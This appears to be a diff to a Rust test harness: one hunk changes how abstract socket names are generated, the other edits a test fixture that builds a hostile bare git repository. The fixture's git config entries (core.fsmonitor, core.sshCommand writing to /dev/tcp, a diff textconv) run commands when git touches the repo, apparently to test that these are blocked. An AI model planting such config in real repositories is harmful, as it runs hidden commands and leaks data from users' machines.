@@ -136,11 +136,9 @@ impl Arena {
         let unix_path = root.join("agent.sock");
         let unix = UnixListener::bind(&unix_path)?;
         unix.set_nonblocking(true)?;
-        let abstract_name = format!(
-            "catui-arena-{}-{}",
-            std::process::id(),
-            root.file_name().and_then(|n| n.to_str()).unwrap_or("x")
-        );
+        static ARENAS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
+        let n = ARENAS.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        let abstract_name = format!("catui-arena-{}-{n}", std::process::id());
         let abstract_listener =
             UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes())?)?;
         abstract_listener.set_nonblocking(true)?;
@@ -320,7 +318,7 @@ git add -A
 git $id commit -qm vendor
 e="git --git-dir=vendor/evil.git config"
 $e core.fsmonitor "touch {p}/pwned-bare-fsmonitor"
-$e core.sshCommand "sh -c 'echo leak > /dev/tcp/127.0.0.1/{tcp}'"
+$e core.sshCommand "bash -c 'echo leak > /dev/tcp/127.0.0.1/{tcp}'"
 $e remote.origin.url ssh://example.invalid/x
 $e diff.evil.textconv "sh -c 'touch {p}/pwned-bare-textconv; cat \"\$1\"' -"
 mkdir -p vendor/evil.git/info && printf '* diff=evil\n' > vendor/evil.git/info/attributes
